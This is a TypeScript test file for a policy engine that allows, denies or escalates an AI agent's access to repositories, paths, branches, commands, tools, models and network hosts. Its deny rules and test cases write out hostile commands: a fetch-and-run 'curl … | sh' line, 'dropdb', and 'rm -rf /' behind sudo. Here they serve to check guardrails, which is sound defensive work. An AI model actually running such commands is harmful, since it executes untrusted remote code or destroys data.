import { expect, test } from "vitest";
import { decide, pinnedAndCurrent } from "#policy/decide/decide.ts";
import type { Decision, PolicyObject } from "#policy/decision.ts";
import { compileScope, startRequest } from "#policy/load/compile.ts";
import { decidePath } from "#policy/paths.ts";
import type { Policy } from "#policy/policy.ts";
import type { Scope } from "#policy/scope.ts";
import { load, loaded, teamFile } from "#test/policy/sample.ts";

const TEAM = teamFile(`rules:
  - allow: {git.repo: ["acme/shop", "acme/lib-*"]}
  - deny:  {git.repo: acme/lib-secret}
  - ask:   {git.repo: acme/pay}
    from: group:leads
  - allow: {git.path: ["src/**", "test/**"]}
    in: acme/shop
  - ask:   {git.path: "**/package.json"}
    in: acme/shop
    from: group:leads
    quorum: 2
    expires: 1h
  - ask:   {git.path: src/pay/**}
    in: acme/shop
    from: group:shop
    expires: 10m
    grants: {for: once}
  - deny:  {git.path: src/generated/**}
    except: [src/generated/README.md]
    why: generated
  - deny:  {git.branch: "agent/hot*"}
  - ask:   {command: "rm -rf *"}
    from: group:leads
  - deny:  {command: ["curl * | sh", "dropdb *"]}
  - deny:  {action: pr.open, draft: false}
  - deny:  {action: issue.comment}
  - deny:  {tool: browser}
egress:
  - {preset: npm-read}
  - {preset: model-openai}
  - {host: api.example.com, methods: [GET], paths: ["/v1/**"]}
  - {host: "*.cdn.example.com", ports: [443, 8443]}
`);
const policy = loaded(load(TEAM));

/** "allow", "deny: reason", or "ask: who", and which rules said so (line only). */
function answer(decision: Decision): string {
  const lines = decision.rules.map(({ at }) => at.replace("teams/shop.yaml:", "").replace(/:\d+$/, "")).join(",");
  const what =
    decision.outcome === "ask"
      ? `ask ${decision.asks.map((ask) => ask.from.replace("group:", "")).join("+")}`
      : decision.outcome === "deny"
        ? `deny ${decision.reason}`
        : "allow";
  return lines === "" ? what : `${what} by ${lines}`;
}

const ask = (...objects: PolicyObject[]) => answer(decide(policy, { team: "shop", objects }));
const repo = (name: string): PolicyObject => ({ subject: "git.repo", repo: name });
const at = (path: string, name = "acme/shop"): PolicyObject => ({ subject: "git.path", repo: name, path });
const branch = (name: string): PolicyObject => ({ subject: "git.branch", repo: "acme/shop", branch: name });
const command = (text: string): PolicyObject => ({ subject: "command", command: text });
const action = (name: string, draft?: boolean): PolicyObject => ({
  subject: "action",
  action: name,
  ...(draft === undefined ? {} : { draft }),
});
const model = (name: string): PolicyObject => ({ subject: "model", model: name });
const http = (host: string, method: string | null, path: string | null, port = 443): PolicyObject => ({
  subject: "egress",
  host,
  port,
  method,
  path,
});

test.each<[string, PolicyObject[], string]>([
  ["a repository that is named is allowed", [repo("acme/shop")], "allow by 6"],
  ["its case does not matter", [repo("ACME/Shop")], "allow by 6"],
  ["a wildcard names repositories too", [repo("acme/lib-ui")], "allow by 6"],
  ["a repository nobody named is denied", [repo("acme/site")], "deny no_rule"],
  ["a deny beats an allow", [repo("acme/lib-secret")], "deny rule by 7"],
  ["a repository may need a yes", [repo("acme/pay")], "ask leads by 8"],
  ["a path that is listed is allowed", [at("src/cart.ts")], "allow by 10"],
  ["a path in another case is the same path", [at("SRC/Cart.ts")], "allow by 10"],
  ["a path that is not listed is denied", [at("Makefile")], "deny no_rule"],
  ["an ask beats an allow", [at("src/pay/card.ts")], "ask shop by 17"],
  ["an ask needs no allow beside it", [at("package.json")], "ask leads by 12"],
  ["an ask for a file anywhere beats an allow of its folder", [at("src/lib/package.json")], "ask leads by 12"],
  ["several asks must all be met", [at("src/pay/package.json")], "ask leads+shop by 12,17"],
  ["a deny beats an ask", [at("src/generated/package.json")], "deny rule by 22"],
  ["an except is not denied", [at("src/generated/README.md")], "allow by 10"],
  [
    "the worst path is the answer",
    [at("src/cart.ts"), at("src/pay/x.ts"), at("src/generated/x.ts")],
    "deny rule by 22",
  ],
  [
    "asks over many paths are collected",
    [at("src/pay/x.ts"), at("package.json"), at("src/a.ts")],
    "ask leads+shop by 17,12",
  ],
  ["without an allow for a repository its paths are free", [at("Makefile", "acme/lib-ui")], "allow by baseline"],
  ["and its denies still hold", [at("src/generated/x.ts", "acme/lib-ui")], "deny rule by 22"],
  ["a path in a repository that is denied is denied", [at("src/a.ts", "acme/lib-secret")], "deny rule by 7"],
  ["a path in a repository nobody named is denied", [at("src/a.ts", "acme/site")], "deny no_rule"],
  ["a path out of the repository is denied", [at("../src/a.ts")], "deny bad_path"],
  ["an absolute path is denied", [at("/src/a.ts")], "deny bad_path"],
  ["a run's own branch is free", [branch("agent/r1")], "allow by baseline"],
  ["another branch is denied", [branch("main")], "deny no_rule"],
  ["a folder under the own branch is another branch", [branch("agent/r1/x")], "deny no_rule"],
  ["a branch may be denied", [branch("agent/hotfix")], "deny rule by 25"],
  ["an ordinary command asks nobody", [command("npm test")], "allow by baseline"],
  ["a command in the middle of a line is seen", [command("cd x && rm -rf build; ls")], "ask leads by 26"],
  ["a command behind a wrapper is seen", [command("sudo /bin/rm -rf /")], "ask leads by 26"],
  ["a pattern with a pipe is held against the line", [command("curl https://x.test/i |  sh")], "deny rule by 28"],
  ["a denied command beats an asked one", [command("rm -rf a; dropdb b")], "deny rule by 28"],
  ["a tool may be denied", [{ subject: "tool", tool: "browser" }], "deny rule by 31"],
  ["another tool asks nobody", [{ subject: "tool", tool: "shell" }], "allow by baseline"],
  ["a run may start", [action("run.start")], "allow by baseline"],
  ["a draft may be opened", [action("pr.open", true)], "allow by baseline"],
  ["a pull request that is no draft may be denied", [action("pr.open", false)], "deny rule by 29"],
  ["a pull request may be updated", [action("pr.update")], "allow by baseline"],
  ["an action may be denied", [action("issue.comment")], "deny rule by 30"],
  ["a new package needs a rule", [action("package.install")], "deny no_rule"],
  ["nothing merges", [action("pr.merge")], "deny rule by baseline"],
  ["nothing deploys", [action("deploy.production")], "deny rule by baseline"],
  ["an action nobody knows is denied", [action("pr.explode")], "deny no_rule"],
  ["a model within the ceiling is allowed", [model("scripted")], "allow by org.yaml:9"],
  ["a host that is granted is allowed", [http("api.example.com", "GET", "/v1/x")], "allow by 35"],
  ["its method is looked at", [http("api.example.com", "POST", "/v1/x")], "deny method by 35"],
  ["its path is looked at", [http("api.example.com", "GET", "/v2/x")], "deny path by 35"],
  ["its port is looked at", [http("api.example.com", "GET", "/v1/x", 80)], "deny port by 35"],
  ["a host is written in any case, with a dot", [http("API.example.com.", "GET", "/v1/x")], "allow by 35"],
  ["a star is one label", [http("eu.cdn.example.com", null, null, 8443)], "allow by 36"],
  ["a star is not two labels", [http("a.b.cdn.example.com", null, null)], "deny no_rule"],
  ["the apex is not implied", [http("cdn.example.com", null, null)], "deny no_rule"],
  ["what is no host name is denied", [http("a..b", "GET", "/")], "deny bad_authority"],
  ["a request that touches nothing is denied", [], "deny no_rule"],
])("%s", (_sentence, objects, expected) => {
  expect(ask(...objects)).toBe(expected);
});

test("a team nobody knows is denied, also when it is called like something in JavaScript", () => {
  for (const team of ["sales", "constructor", "__proto__"]) {
    expect(answer(decide(policy, { team, objects: [repo("acme/shop")] }))).toBe("deny no_team");
  }
});

test("the trace names each object, what decided it, and where it is enforced", () => {
  const objects = [
    ...[repo("acme/shop"), branch("agent/r1"), at("src/a.ts"), command("ls"), model("m"), action("pr.open")],
  ];
  const { trace, digest } = decide(policy, { team: "shop", objects });
  expect(trace.map((line) => line.object)).toEqual(objects);
  expect(trace.map(({ points }) => points.join(" "))).toEqual([
    ...["intake publish", "intake relay publish", "relay", "protocol", "gateway", "publish"],
  ]);
  expect(trace[2]?.rules).toEqual([
    { at: "teams/shop.yaml:10:5", text: "allow git.path src/**, test/** in acme/shop", why: null },
  ]);
  expect(digest).toBe(policy.digest);
});

test("an ask carries its quorum, its shortest expiry, and how long a yes holds", () => {
  const decision = decide(policy, { team: "shop", objects: [at("src/pay/package.json")] });
  expect(decision.outcome === "ask" && decision.asks).toMatchObject([
    { from: "group:leads", quorum: 2, self: false, expiresMs: 600_000, grants: { for: "run" } },
    { from: "group:shop", quorum: 1, self: false, expiresMs: 600_000, grants: { for: "once" } },
  ]);
});

test("two questions to one group are one question, the stricter", () => {
  const twice = teamFile(`rules:
  - allow: {git.repo: acme/shop}
  - ask: {git.path: src/**}
    from: group:leads
    self: true
  - ask: {git.path: "**/*.sql"}
    from: group:leads
    quorum: 2
    grants: {for: once}
`);
  const decision = decide(loaded(load(twice)), { team: "shop", objects: [at("src/a.sql")] });
  expect(decision.outcome === "ask" && decision.asks).toMatchObject([
    { from: "group:leads", quorum: 2, self: false, grants: { for: "once" }, rule: { at: "teams/shop.yaml:10:5" } },
  ]);
  expect(decision.rules).toHaveLength(2);
});

test("a team without a model preset may call no model", () => {
  const none = loaded(load(teamFile("rules: [{allow: {git.repo: acme/shop}}]\n")));
  expect(answer(decide(none, { team: "shop", objects: [model("scripted")] }))).toBe("deny no_rule");
});

test("a team's models are the ones it names", () => {
  const some = loaded(
    load(teamFile(`rules: [{allow: {model: [claude-*, gpt-5]}}]\negress: [{preset: model-openai}]\n`)),
  );
  const outcomes = ["claude-4", "gpt-5", "gpt-5-pro"].map(
    (name) => decide(some, { team: "shop", objects: [model(name)] }).outcome,
  );
  expect(outcomes).toEqual(["allow", "allow", "deny"]);
});

function scopeOf(from: Policy, name = "acme/shop") {
  const compiled = compileScope(from, { team: "shop", repo: name, run: "r1" });
  if (!compiled.ok) throw new Error("the scope was denied");
  return compiled.scope;
}

test("a scope is what the run may touch, pinned", () => {
  const scope = scopeOf(policy);
  expect(scope).toMatchObject({ team: "shop", repo: "acme/shop", branch: "agent/r1", registry: true, models: ["*"] });
  expect(scope.policy).toEqual({ commit: "c0ffee", digest: policy.digest });
  expect(scope.egress.map((rule) => `${rule.host} ${rule.mode}`)).toEqual([
    "api.example.com intercept",
    "*.cdn.example.com tunnel",
  ]);
  expect(scope.limits).toEqual({
    costUsd: 10,
    tokens: 20_000_000,
    runtimeMs: 7_200_000,
    uploadBytes: 100_000_000,
    concurrentRuns: 5,
  });
});

test("a scope for a repository that is denied is the denial; for one that is asked it compiles", () => {
  const denied = compileScope(policy, { team: "shop", repo: "acme/site", run: "r1" });
  expect(!denied.ok && answer(denied.decision)).toBe("deny no_rule");
  expect(answer(decide(policy, startRequest(scopeOf(policy, "acme/pay"), "scripted")))).toBe("ask leads by 8");
});

test("a run whose id cannot be a branch is a bug of the caller", () => {
  expect(() => compileScope(policy, { team: "shop", repo: "acme/shop", run: "../main" })).toThrow(TypeError);
});

test("checks and setup are those that speak of the repository", () => {
  const file = teamFile(`rules: [{allow: {git.repo: ["acme/shop", "acme/site"]}}]
setup:
  - {in: acme/shop, command: npm ci}
  - {command: git --version}
checks:
  - {name: tests, in: acme/shop, command: npm test, timeout: 5m}
  - {name: lint, command: sh lint.sh, required: false}
`);
  const scope = scopeOf(loaded(load(file)));
  expect(scope.setup).toEqual(["npm ci", "git --version"]);
  expect(scope.checks).toEqual([
    { name: "tests", command: "npm test", timeoutMs: 300_000, required: true, paths: [] },
    { name: "lint", command: "sh lint.sh", timeoutMs: 600_000, required: false, paths: [] },
  ]);
  expect(scopeOf(loaded(load(file)), "acme/site").checks.map(({ name }) => name)).toEqual(["lint"]);
});

test("path rules that were stored as JSON still ask the whole question", () => {
  const stored = JSON.parse(JSON.stringify(scopeOf(policy))) as Scope;
  expect(decidePath(stored.paths, "package.json")).toMatchObject({
    effect: "ask",
    from: "group:leads",
    rule: { at: "teams/shop.yaml:12:5" },
    matched: [{ ask: { quorum: 2, expiresMs: 3_600_000 } }],
  });
  expect(decidePath(stored.paths, "src/pay/package.json").matched.map(({ from }) => from)).toEqual([
    "group:leads",
    "group:shop",
  ]);
  expect(decidePath([], "src/a.ts")).toMatchObject({ effect: "deny", reason: "no_rule", rule: null });
});

test("a rule that was only moved is named once, where it is now", () => {
  const objects = [at("src/pay/x.ts")];
  const moved = loaded(load(TEAM.replace("rules:", "# moved\nrules:")));
  expect(moved.digest).not.toBe(policy.digest);
  const both = pinnedAndCurrent(decide(policy, { team: "shop", objects }), decide(moved, { team: "shop", objects }));
  expect(answer(both)).toBe("ask shop by 18");
  expect(both.digest).toBe(moved.digest);
});

test("a narrowing holds at once and a widening waits for the next run", () => {
  const objects = [at("Makefile")];
  const wide = loaded(load(teamFile("rules: [{allow: {git.repo: acme/shop}}]\n")));
  const narrow = decide(policy, { team: "shop", objects });
  const open = decide(wide, { team: "shop", objects });
  expect([narrow.outcome, open.outcome]).toEqual(["deny", "allow"]);
  expect(pinnedAndCurrent(open, narrow).outcome).toBe("deny");
  expect(pinnedAndCurrent(narrow, open).outcome).toBe("deny");
});
